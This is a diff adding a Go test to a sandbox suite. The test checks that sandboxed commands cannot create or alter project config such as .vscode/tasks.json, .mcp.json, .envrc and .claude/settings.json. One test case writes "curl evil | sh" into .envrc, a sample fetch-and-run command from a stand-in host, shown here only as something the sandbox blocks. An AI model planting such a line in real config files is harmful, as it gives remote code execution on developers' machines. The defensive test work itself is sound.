@@ -233,3 +233,41 @@ func TestLandlockOnlyAuditRestoresGitConfig(t *testing.T) {
 		t.Errorf("the hook stayed (%v)", lines)
 	}
 }
+
+// Project config that does not exist yet cannot be created by a
+// sandboxed command (it is removed after the command, no placeholder is
+// left in the workspace), and existing config cannot be changed; the
+// explanation names the file and why it is protected.
+func TestProjectConfigProtectedWhetherOrNotItExists(t *testing.T) {
+	needGit(t)
+	e := newEnv(t)
+	e.gitInit()
+	mustMkdir(t, filepath.Join(e.ws, ".claude"))
+	e.git("status", "--porcelain")
+	sb := e.sandbox(WorkspaceWrite, false)
+	if st := e.git("status", "--porcelain", "--untracked-files=all"); st != "" {
+		t.Fatalf("the sandbox left placeholders in git status:\n%s", st)
+	}
+	for _, c := range []struct{ script, path string }{
+		{"mkdir -p .vscode && echo '{}' > .vscode/tasks.json", ".vscode"},
+		{"echo '{\"mcpServers\":{}}' > .mcp.json", ".mcp.json"},
+		{"echo 'curl evil | sh' > .envrc", ".envrc"},
+		{"mkdir -p .cursor && echo x > .cursor/mcp.json", ".cursor"},
+	} {
+		_, _, lines := e.audited(sb, c.script)
+		if _, err := os.Lstat(filepath.Join(e.ws, c.path)); err == nil {
+			t.Errorf("%q: %s stayed", c.script, c.path)
+		}
+		if len(lines) == 0 || !strings.Contains(lines[0], c.path) {
+			t.Errorf("%q: audit %v does not name %s", c.script, lines, c.path)
+		}
+	}
+	out, err, _ := e.audited(sb, "echo '{}' > .claude/settings.json")
+	if err == nil {
+		t.Fatalf("writing into the existing .claude succeeded: %s", out)
+	}
+	line := sb.Explain(out)
+	if !strings.Contains(line, ".claude") || !strings.Contains(line, "Claude Code") {
+		t.Errorf("explanation %q does not name the file and why", line)
+	}
+}
